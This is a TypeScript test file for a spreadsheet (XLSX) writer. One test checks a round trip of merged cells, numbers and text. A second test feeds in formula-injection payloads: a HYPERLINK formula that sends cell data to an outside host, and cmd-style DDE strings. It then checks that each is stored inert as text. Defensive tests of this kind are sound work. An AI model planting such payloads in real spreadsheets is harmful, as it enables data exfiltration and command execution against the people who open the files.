import { expect, test } from 'vitest';
import { GridBuilder } from '../../../src-shared/grid.ts';
import { parseValue } from '../../../src-shared/value.ts';
import { readFile } from './index.ts';
import { writeXlsx } from './writeXlsx.ts';

function gridOf(rows: readonly (readonly string[])[]) {
  const builder = new GridBuilder({ name: 'Table' });
  for (const [row, texts] of rows.entries()) {
    for (const [col, text] of texts.entries()) builder.add({ row, col, text, value: parseValue(text) });
  }
  return builder;
}

test('a table comes back from the workbook as it was: merges, numbers, texts', async () => {
  const builder = gridOf([
    ['', '', ''],
    ['Pears', '7', '12.5 %'],
  ]);
  builder.add({ row: 2, col: 0, colSpan: 3, text: 'Total', value: { kind: 'text' }, style: { bold: true } });
  const { grids } = await readFile(await writeXlsx([builder.build()]), 'table.xlsx');
  const grid = grids[0];
  expect([grid?.at(1, 0)?.text, grid?.at(1, 1)?.value, grid?.at(1, 2)?.text]).toEqual([
    'Pears',
    { kind: 'number', number: 7 },
    '12.5 %',
  ]);
  expect(grid?.at(2, 2)).toMatchObject({ address: 'A3', colSpan: 3, text: 'Total', style: { bold: true } });
});

test('text on a picture never becomes a formula that a spreadsheet runs', async () => {
  const hostile = ['=HYPERLINK("http://x/?"&A1)', '+1+cmd|x', '@SUM(A1)', '-2+3+cmd', ' =1+1'];
  const { grids } = await readFile(await writeXlsx([gridOf([hostile]).build()]), 'table.xlsx');
  for (const [col, text] of hostile.entries()) {
    const cell = grids[0]?.at(0, col);
    expect(cell).toMatchObject({ text, value: { kind: 'text' }, style: { numberFormat: '@' } });
    expect(cell?.formula).toBeUndefined();
  }
});
